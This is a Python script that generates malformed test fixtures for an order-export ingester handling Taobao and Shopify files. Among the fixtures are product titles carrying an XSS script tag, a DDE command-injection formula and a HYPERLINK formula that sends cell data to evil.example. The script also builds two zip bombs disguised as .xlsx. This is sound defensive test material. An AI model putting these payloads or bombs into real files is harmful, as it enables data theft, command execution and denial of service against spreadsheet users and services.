"""Write the malformed inputs of tests/fixtures/bad_inputs/ (committed; this script documents how
their bytes were made) and build the ones too big or too dangerous to commit (a 10 MB single
field, zip bombs) at test time with :func:`build_generated`.

    .venv/bin/python tests/ingest/make_bad_inputs.py

Each file's expected outcome is in tests/ingest/test_bad_inputs.py.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from xlsx_writer import Formula, write_xlsx  # noqa: E402

OUT = Path(__file__).resolve().parents[1] / "fixtures" / "bad_inputs"

TAOBAO_HEADER = ("订单编号,买家会员名,买家支付宝账号,买家应付货款,买家应付邮费,买家支付积分,总金额,返点积分,买家实际支付金额,"
                 "买家实际支付积分,订单状态,买家留言,收货人姓名,收货地址,运送方式,联系电话,联系手机,订单创建时间,订单付款时间,"
                 "宝贝标题,宝贝种类,物流单号,物流公司,订单备注,宝贝总数量,分销商Id,分销商店铺名称,订单关闭原因,卖家服务费,"
                 "买家服务费,发票抬头,定金排名,修改后的sku,修改后的收货地址,异常信息,卡券抵扣,积分抵扣,是否是O2O交易,退款金额"
                 ).split(",")
SHOPIFY_HEADER = ("Name,Email,Financial Status,Paid at,Fulfillment Status,Fulfilled at,Accepts Marketing,Currency,"
                  "Subtotal,Shipping,Taxes,Total,Discount Code,Discount Amount,Shipping Method,Created at,"
                  "Lineitem quantity,Lineitem name,Lineitem price,Lineitem compare at price,Lineitem sku,"
                  "Lineitem requires shipping,Lineitem taxable,Lineitem fulfillment status").split(",")


def tb_row(order: str, paid: str = "99.00", status: str = "交易成功", created: str = "2026-11-22 10:00:00",
           paid_at: str = "2026-11-22 10:01:00", title: str = "保温杯 500ml", note: str = "",
           buyer: str = "tb_test") -> list[str]:
    cells = dict.fromkeys(TAOBAO_HEADER, "")
    cells.update({"订单编号": order, "买家会员名": buyer, "买家应付货款": paid, "买家应付邮费": "0.00", "总金额": paid,
                  "买家实际支付金额": paid, "订单状态": status, "买家留言": note, "收货人姓名": "张*",
                  "订单创建时间": created, "订单付款时间": paid_at, "宝贝标题": title, "宝贝种类": "1",
                  "宝贝总数量": "1", "退款金额": "0.00"})
    return [cells[h] for h in TAOBAO_HEADER]


def shopify_row(name: str, status: str = "paid", total: str = "10.00") -> list[str]:
    cells = dict.fromkeys(SHOPIFY_HEADER, "")
    cells.update({"Name": name, "Email": "x@example.com", "Financial Status": status,
                  "Paid at": "2026-11-22 12:00:00 -0500", "Currency": "USD", "Total": total,
                  "Created at": "2026-11-22 11:59:00 -0500", "Lineitem quantity": "1", "Lineitem name": "Mug",
                  "Lineitem price": total, "Lineitem sku": "MUG"})
    return [cells[h] for h in SHOPIFY_HEADER]


def csv_text(rows: list[list[str]], newline: str = "\r\n") -> str:
    def quote(cell: str) -> str:
        return '"' + cell.replace('"', '""') + '"' if any(ch in cell for ch in ',"\r\n') else cell
    return "".join(",".join(quote(c) for c in row) + newline for row in rows)


def gbk(name: str, rows: list[list[str]], newline: str = "\r\n") -> None:
    (OUT / name).write_bytes(csv_text(rows, newline).encode("gbk"))


def main() -> None:
    OUT.mkdir(parents=True, exist_ok=True)
    for old in OUT.iterdir():
        old.unlink()
    rnd = random.Random(20261122)
    H = TAOBAO_HEADER

    (OUT / "empty.csv").write_bytes(b"")
    (OUT / "blank_lines_only.csv").write_bytes(b"\r\n \r\n\t\r\n")
    gbk("header_only_ExportOrderList_2026-11-22.csv", [H])
    text = csv_text([H, tb_row("3856201234567890301"), tb_row("3856201234567890302")])
    (OUT / "truncated_mid_row_ExportOrderList_2026-11-22.csv").write_bytes(text[: text.rindex("2026-11-22 10:00")].encode("gbk"))
    (OUT / "truncated_in_quotes_ExportOrderList_2026-11-22.csv").write_bytes(
        (csv_text([H, tb_row("3856201234567890303")]) + '"3856201234567890304,tb_x,"unterminated').encode("gbk"))
    (OUT / "binary_garbage.csv").write_bytes(bytes(rnd.randrange(256) for _ in range(3000)) + b"\x00" * 10)
    (OUT / "garbage_high_bytes.csv").write_bytes(bytes(rnd.choice([0x80, 0xFF, 0xC0, 0xFE]) for _ in range(500)))
    # a GBK export opened as Latin-1 and saved as UTF-8: the headers turn into mojibake
    (OUT / "wrong_encoding_mojibake.csv").write_bytes(
        csv_text([H, tb_row("3856201234567890305")]).encode("gbk").decode("latin-1").encode("utf-8"))
    dup = H + ["订单编号"]
    gbk("duplicate_mapped_header_ExportOrderList.csv", [dup, tb_row("3856201234567890306") + ["3856201234567890306"]])
    dup = H + ["联系电话"]
    gbk("duplicate_unmapped_header_ExportOrderList.csv", [dup, tb_row("3856201234567890307") + ["138****0000"]])
    gbk("amounts_negative_nan_huge_ExportOrderList_2026-11-22.csv", [
        H, tb_row("3856201234567890310", paid="-10.00"), tb_row("3856201234567890311", paid="NaN"),
        tb_row("3856201234567890312", paid="99999999999999999"), tb_row("3856201234567890313", paid="1e400"),
        tb_row("3856201234567890314", paid="inf"), tb_row("3856201234567890315", paid=""),
        tb_row("3856201234567890316", paid="￥1,234.50")])
    gbk("dates_1900_2100_ExportOrderList_2026-11-22.csv", [
        H, tb_row("3856201234567890320", created="1900-01-01 00:00:00"),
        tb_row("3856201234567890321", created="2100-01-01 00:00:00"),
        tb_row("3856201234567890322", paid_at="0000-00-00 00:00:00"),
        tb_row("3856201234567890323", created="2026-02-30 10:00:00"),
        tb_row("3856201234567890324", created="2099-12-31 23:59:59"),
        tb_row("3856201234567890325")])
    gbk("script_and_formula_titles_ExportOrderList_2026-11-22.csv", [
        H, tb_row("3856201234567890330", title="<script>alert(1)</script>围巾"),
        tb_row("3856201234567890331", title='=HYPERLINK("http://evil.example/?x="&A1,"点我领券")'),
        tb_row("3856201234567890332", title="+cmd|' /C calc'!A0"),
        tb_row("3856201234567890333", title="@SUM(1+1)")])
    # two platforms' exports pasted into one file: a Taobao export with a Shopify export below it
    (OUT / "two_platforms_in_one_file.csv").write_bytes(
        (csv_text([H, tb_row("3856201234567890340"), tb_row("3856201234567890341")])
         + csv_text([SHOPIFY_HEADER, shopify_row("#2001"), shopify_row("#2002")])).encode("utf-8"))
    gbk("header_repeated_ExportOrderList_2026-11-22.csv", [
        H, tb_row("3856201234567890350"), H, tb_row("3856201234567890351")])
    # a Shopify export dropped into the Tmall shop's inbox
    (OUT / "orders_export_wrong_shop.csv").write_bytes(
        csv_text([SHOPIFY_HEADER, shopify_row("#3001")], "\n").encode("utf-8"))
    # containers under the wrong name
    write_xlsx(OUT / "xlsx_renamed_to.csv", [("Sheet1", [H, tb_row("3856201234567890360")])])
    (OUT / "csv_renamed_to.xlsx").write_bytes(csv_text([H, tb_row("3856201234567890361")]).encode("gbk"))
    (OUT / "pdf_renamed_to.csv").write_bytes(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n")
    (OUT / "orders.csv.gz").write_bytes(b"\x1f\x8b\x08\x00" + bytes(40))
    # a path with spaces, brackets and Chinese characters: one good file, one bad one
    gbk("订单 报表 (1) 2026-11-22.csv", [H, tb_row("3856201234567890370")])
    (OUT / "坏 文件 (2).csv").write_bytes(b"\x00\x01\x02 not an export \xff\xfe")
    (OUT / "unknown_columns.csv").write_bytes("订单编号,金额,备注\n1,10.00,x\n".encode("utf-8"))
    gbk("unknown_status_ExportOrderList_2026-11-22.csv", [
        H, tb_row("3856201234567890380", status="外星状态"), tb_row("3856201234567890381")])
    gbk("excel_mangled_ids_ExportOrderList_2026-11-22.csv", [
        H, tb_row("3.85620123456789E+18"), tb_row('="3856201234567890391"'), tb_row("'3856201234567890392")])
    (OUT / "title_rows_only.csv").write_bytes("生意参谋 流量来源 店铺：测试店\n统计日期：2026-11-22\n".encode("utf-8-sig"))
    (OUT / "one_column.txt").write_bytes(b"just one column\nof text\n")
    # old Mac line endings (CR only) and a trailing comma on every data row
    gbk("cr_only_ExportOrderList_2026-11-22.csv", [H, tb_row("3856201234567890400")], newline="\r")
    text = csv_text([H]) + "".join(csv_text([tb_row(f"38562012345678904{i}")]).rstrip("\r\n") + ",\r\n" for i in (10, 11))
    (OUT / "trailing_commas_ExportOrderList_2026-11-22.csv").write_bytes(text.encode("gbk"))
    body = csv_text([H, tb_row("3856201234567890420")])
    (OUT / "nul_after_4kb.csv").write_bytes((body + "x" * 5000).encode("utf-8") + b"\x00" + b"tail\r\n")
    # zips: one holding two exports, and a 直通车 download that comes zipped with one CSV inside
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("a.csv", csv_text([H, tb_row("3856201234567890430")]))
        zf.writestr("b.csv", csv_text([H, tb_row("3856201234567890431")]))
    (OUT / "two_exports.zip").write_bytes(buf.getvalue())
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("计划报表_20261122_073000.csv", "\ufeff日期,场景ID,场景名字,计划ID,计划名字,展现量,点击量,花费,"
                    "直接成交金额,间接成交金额,总成交金额\r\n2026-11-22,1,关键词推广,30009,压缩包里的计划,100,10,"
                    "20.00,0,0,0\r\n")
    (OUT / "计划报表_20261122_073000.zip").write_bytes(buf.getvalue())
    (OUT / "broken_zip.xlsx").write_bytes(buf.getvalue()[:60])
    # 生意参谋 product ranking for seven days as one total, without a date column: refused
    (OUT / "【生意参谋平台】商品_全部_2026-11-15_2026-11-21.csv").write_bytes(
        "商品ID,商品名称,商品访客数,支付金额\n612345678901,围巾,7000,21000.00\n".encode("utf-8-sig"))
    # spreadsheets: formulas with and without cached values; data on the second sheet
    write_xlsx(OUT / "formulas_ExportOrderList_2026-11-22.xlsx", [("Sheet1", [
        H,
        [Formula('"3856201234567890440"', "3856201234567890440") if h == "订单编号" else
         Formula("50+49.5", 99.5) if h == "买家实际支付金额" else c
         for h, c in zip(H, tb_row("x"))],
        [Formula('"3856201234567890441"', "3856201234567890441") if h == "订单编号" else
         Formula("SUM(Z1:Z9)") if h == "买家实际支付金额" else c
         for h, c in zip(H, tb_row("x"))],
        [Formula('"3856201234567890442"', "3856201234567890442") if h == "订单编号" else
         Formula('HYPERLINK("http://evil.example","点我")', "点我") if h == "宝贝标题" else c
         for h, c in zip(H, tb_row("x"))],
    ])])
    write_xlsx(OUT / "data_on_second_sheet_ExportOrderList_2026-11-22.xlsx", [
        ("说明", [["本表由系统导出"], ["请勿修改"]]), ("订单", [H, tb_row("3856201234567890450")])])
    (OUT / "no_table.xls").write_bytes(b"<html><body><p>session expired, please log in</p></body></html>")
    xml = ('<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
           'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1"><Table>'
           + "".join("<Row>" + "".join(f'<Cell><Data ss:Type="String">{c}</Data></Cell>' for c in row) + "</Row>"
                     for row in [H, tb_row("3856201234567890460")])
           + "</Table></Worksheet></Workbook>")
    (OUT / "xml_spreadsheet_ExportOrderList_2026-11-22.xls").write_bytes(xml.encode("utf-8"))
    (OUT / "utf16_no_bom_ExportOrderList_2026-11-22.csv").write_bytes(
        csv_text([H, tb_row("3856201234567890470")]).encode("utf-16-le"))
    gbk("shopify_missing_paid_at.csv", [[h for h in SHOPIFY_HEADER if h != "Paid at"],
                                        [c for h, c in zip(SHOPIFY_HEADER, shopify_row("#4001")) if h != "Paid at"]])
    # a user profile that refuses a whole file on one bad row (on_bad_row = "reject_file")
    (OUT / "strict_erp_orders.csv").write_bytes(
        b"erp_order,erp_amount,erp_time\nE-1,10.00,2026-11-22 10:00:00\nE-2,ten,2026-11-22 11:00:00\n")
    (OUT / "~$locked.xlsx").write_bytes(b"\x0bExcel lock file")
    (OUT / "orders_export_2026-11-22.csv.crdownload").write_bytes(b"Name,Email,Financial")


def build_generated(folder: Path) -> dict[str, Path]:
    """The inputs built at test time: a 10 MB single field and two zip bombs disguised as .xlsx."""
    H = TAOBAO_HEADER
    ten_mb = "长" * (10 * 2**20 // 3)  # 10 MB as UTF-8
    big = folder / "ten_mb_field_ExportOrderList_2026-11-22.csv"
    big.write_bytes(csv_text([H, tb_row("3856201234567890500", note=ten_mb),
                              tb_row("3856201234567890501", title=ten_mb),
                              tb_row("3856201234567890502")]).encode("utf-8"))
    # (1) a zip whose directory says its sheet expands to 3.75 GB
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/worksheets/sheet1.xml", "<worksheet/>")
    data = bytearray(buf.getvalue())
    for sig, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while (at := data.find(sig, start)) >= 0:
            if data[at + (46 if sig == b"PK\x01\x02" else 30):].startswith(b"xl/worksheets"):
                data[at + offset:at + offset + 4] = struct.pack("<I", 0xF0000000)
            start = at + 4
    declared = folder / "zip_bomb_declared.xlsx"
    declared.write_bytes(bytes(data))
    # (2) an honest bomb: 64 MB of zeros that deflate to ~64 KB
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
        info.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(info, "w") as f:
            chunk = b"\0" * 2**20
            for _ in range(64):
                f.write(chunk)
    ratio = folder / "zip_bomb_ratio.xlsx"
    ratio.write_bytes(buf.getvalue())
    return {"ten_mb": big, "declared": declared, "ratio": ratio}


if __name__ == "__main__":
    main()
